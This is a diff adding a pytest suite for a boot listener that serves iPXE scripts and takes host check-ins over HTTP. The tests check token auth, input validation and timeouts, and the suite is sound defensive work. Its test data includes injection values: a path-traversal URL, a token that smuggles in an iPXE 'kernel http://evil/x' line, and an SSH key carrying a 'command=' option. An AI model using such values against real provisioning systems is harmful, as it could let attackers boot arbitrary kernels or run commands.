@@ -1,0 +1,226 @@
+"""The boot listener over real HTTP: what a booting host gets, and what everybody else does not."""
+
+from __future__ import annotations
+
+import asyncio
+import contextlib
+import json
+
+import aiohttp
+import msgspec
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from fleetd.drivers.boot.capabilities import BootScript, Hello
+from fleetd.drivers.boot.listener import BootListener, read_hello, read_mac, script_text
+from fleetd.drivers.ssh.keys import new_key_pair
+from fleetd.kit.errors import Conflict, Denied, FleetError, Invalid, NotFound, Unreachable
+from tests.host_rig import Desk
+
+MAC = "04:3f:72:aa:00:01"
+TOKEN = "t" * 43
+
+
+def hello(**more) -> dict:
+    _, public = new_key_pair("host")
+    said = {
+        "environment": "deploy",
+        "mac": MAC,
+        "serial": "7XK21B3",
+        "uuid": "4c4c4544-0053-5210-8038-c8c04f583034",
+        "boot_id": "1b4e28ba-2fa1-11d2-883f-0016d3cca427",
+        "host_key": public,
+    }
+    return said | more
+
+
+@contextlib.asynccontextmanager
+async def listening(desk=None, **more):
+    listener = BootListener(desk or Desk(), "127.0.0.1", 0, **more)
+    await listener.start()
+    async with aiohttp.ClientSession(f"http://127.0.0.1:{listener.port}") as session:
+        try:
+            yield listener, session
+        finally:
+            await listener.stop()
+
+
+async def test_an_armed_host_gets_its_token_and_others_the_disk():
+    desk = Desk()
+    token = desk.arm(MAC, "ssh-ed25519 AAAA")
+    async with listening(desk, base_url="http://10.0.0.1:8080/") as (_, session):
+        answer = await session.get("/boot/04:3F:72:AA:00:01.ipxe", params={"uuid": "U", "serial": "S"})
+        text = await answer.text()
+        assert text.startswith("#!ipxe\n")
+        assert f"fleetd.token={token}" in text
+        assert "fleetd.url=http://10.0.0.1:8080 " in text
+        assert "BOOTIF=01-04-3f-72-aa-00-01" in text
+        assert "initrd=initrd" in text
+        assert answer.headers["Cache-Control"] == "no-store"
+        assert desk.asked == [(MAC, "U", "S", "127.0.0.1")]
+        other = await session.get("/boot/04:3f:72:aa:00:02.ipxe")
+        assert await other.text() == "#!ipxe\nexit 1\n"
+
+
+async def test_the_whole_conversation():
+    desk = Desk()
+    token = desk.arm(MAC, "ssh-ed25519 AAAA key")
+    bearer = {"Authorization": f"Bearer {token}"}
+    async with listening(desk) as (_, session):
+        keys = await session.get("/deploy/authorized_keys", headers=bearer)
+        assert (keys.status, await keys.text()) == (200, "ssh-ed25519 AAAA key\n")
+        answer = await session.post(
+            "/deploy/hello", headers=bearer | {"X-Forwarded-For": "9.9.9.9"}, json=hello(mac=MAC.upper(), ssh_port=2222)
+        )
+        assert answer.status == 204
+        _, said, source = desk.hellos.get_nowait()
+        assert (said.mac, said.ssh_port, source) == (MAC, 2222, "127.0.0.1")
+
+
+@pytest.mark.parametrize("header", [None, "", "Bearer", "Bearer short", f"Basic {TOKEN}", f"Bearer {TOKEN}", f"Bearer {TOKEN}'"])
+async def test_without_a_valid_token_nothing_is_told(header):
+    headers = {} if header is None else {"Authorization": header}
+    async with listening() as (_, session):
+        for call in (
+            session.get("/deploy/authorized_keys", headers=headers),
+            session.post("/deploy/hello", headers=headers, json=hello()),
+        ):
+            answer = await call
+            assert answer.status == 403
+            assert "secret reason" not in await answer.text()
+            assert json.loads(await answer.text())["code"] == "FLT-3005"
+
+
+@pytest.mark.parametrize(
+    "wrong",
+    [
+        {"mac": "04:3f:72:aa:00"},
+        {"mac": "04:3f-72:aa:00:01"},
+        {"serial": ""},
+        {"serial": "a\nb"},
+        {"uuid": "x" * 129},
+        {"boot_id": ""},
+        {"host_key": "ssh-ed25519 AAAA\nssh-ed25519 BBBB"},
+        {"host_key": 'command="x" ssh-ed25519 ' + "A" * 60},
+        {"ssh_port": 0},
+        {"ssh_port": 65536},
+        {"environment": "elsewhere"},
+        {"serial": 12},
+    ],
+)
+async def test_a_hello_with_a_bad_field_is_refused(wrong):
+    desk = Desk()
+    token = desk.arm(MAC, "k")
+    async with listening(desk) as (_, session):
+        answer = await session.post("/deploy/hello", headers={"Authorization": f"Bearer {token}"}, json=hello(**wrong))
+        assert answer.status == 422
+        assert desk.hellos.empty()
+
+
+@pytest.mark.parametrize("path", ["/", "/boot/", "/boot/x.ipxe", "/boot/..%2f..%2fetc.ipxe", "/boot/04:3f:72:aa:00:01", "/deploy"])
+async def test_other_paths_are_not_there(path):
+    async with listening() as (_, session):
+        assert (await session.get(path)).status == 404
+
+
+async def test_odd_queries_are_refused():
+    async with listening() as (_, session):
+        assert (await session.get(f"/boot/{MAC}.ipxe", params={"serial": "x" * 129})).status == 422
+        assert (await session.get(f"/boot/{MAC}.ipxe", params={"uuid": "a\nb"})).status == 422
+
+
+async def test_a_large_body_is_not_read():
+    desk = Desk()
+    bearer = {"Authorization": f"Bearer {desk.arm(MAC, 'k')}"}
+    async with listening(desk) as (_, session):
+        answer = await session.post("/deploy/hello", headers=bearer, data=b"x" * (64 * 1024 + 1))
+        assert answer.status == 413
+        answer = await session.post("/deploy/hello", headers=bearer, data=b"[" * 60_000)
+        assert answer.status == 422
+
+
+@pytest.mark.parametrize(
+    ("error", "status"),
+    [
+        (Denied("no", why="host-7 of tenant acme"), 403),
+        (Invalid("no", why="host-7 of tenant acme"), 422),
+        (NotFound("no", why="host-7 of tenant acme"), 404),
+        (Unreachable("no", why="host-7 of tenant acme"), 503),
+        (RuntimeError("host-7 of tenant acme"), 500),
+    ],
+)
+async def test_errors_of_the_desk_keep_their_reasons_to_themselves(error, status):
+    class Angry(Desk):
+        async def script(self, mac, *, uuid, serial, source):
+            raise error
+
+    async with listening(Angry()) as (_, session):
+        answer = await session.get(f"/boot/{MAC}.ipxe")
+        assert answer.status == status
+        assert "host-7" not in await answer.text()
+
+
+async def test_a_desk_that_hangs_is_given_up(monkeypatch):
+    class Slow(Desk):
+        async def script(self, mac, *, uuid, serial, source):
+            await asyncio.Event().wait()
+            raise AssertionError
+
+    monkeypatch.setattr("fleetd.drivers.boot.listener.DESK_SECONDS", 0.05)
+    async with listening(Slow()) as (_, session):
+        assert (await session.get(f"/boot/{MAC}.ipxe")).status == 503
+
+
+async def test_a_body_that_never_ends_is_given_up(monkeypatch):
+    monkeypatch.setattr("fleetd.drivers.boot.listener.BODY_SECONDS", 0.05)
+    desk = Desk()
+    token = desk.arm(MAC, "k")
+    async with listening(desk) as (listener, _):
+        reader, writer = await asyncio.open_connection("127.0.0.1", listener.port)
+        writer.write(
+            f"POST /deploy/hello HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {token}\r\nContent-Length: 99\r\n\r\n{{".encode()
+        )
+        async with asyncio.timeout(5):
+            assert b" 503 " in await reader.readline()
+        writer.close()
+
+
+async def test_headers_that_never_end_are_cut(monkeypatch):
+    monkeypatch.setattr("fleetd.drivers.boot.listener.IDLE_SECONDS", 0.1)
+    async with listening() as (listener, _):
+        reader, writer = await asyncio.open_connection("127.0.0.1", listener.port)
+        writer.write(b"GET /boot/x HTTP/1.1\r\nHost: ")
+        async with asyncio.timeout(8):
+            await reader.read()
+        writer.close()
+
+
+async def test_a_taken_port_is_a_conflict():
+    async with listening() as (listener, _):
+        with pytest.raises(Conflict):
+            await BootListener(Desk(), "127.0.0.1", listener.port).start()
+
+
+def test_a_token_that_is_more_than_a_word_never_reaches_a_script():
+    with pytest.raises(Invalid):
+        script_text(BootScript(token="abc\nkernel http://evil/x" + "a" * 20), MAC, "http://b")
+
+
+@given(st.binary(max_size=300))
+def test_no_body_does_more_than_be_refused(body):
+    with contextlib.suppress(FleetError):
+        read_hello(body)
+
+
+@given(st.text(max_size=40))
+def test_no_text_does_more_than_be_no_mac(text):
+    try:
+        assert len(read_mac(text)) == 17
+    except NotFound:
+        return
+
+
+def test_a_hello_reads_as_it_was_written():
+    said = Hello(**hello())
+    assert read_hello(msgspec.json.encode(said)) == said
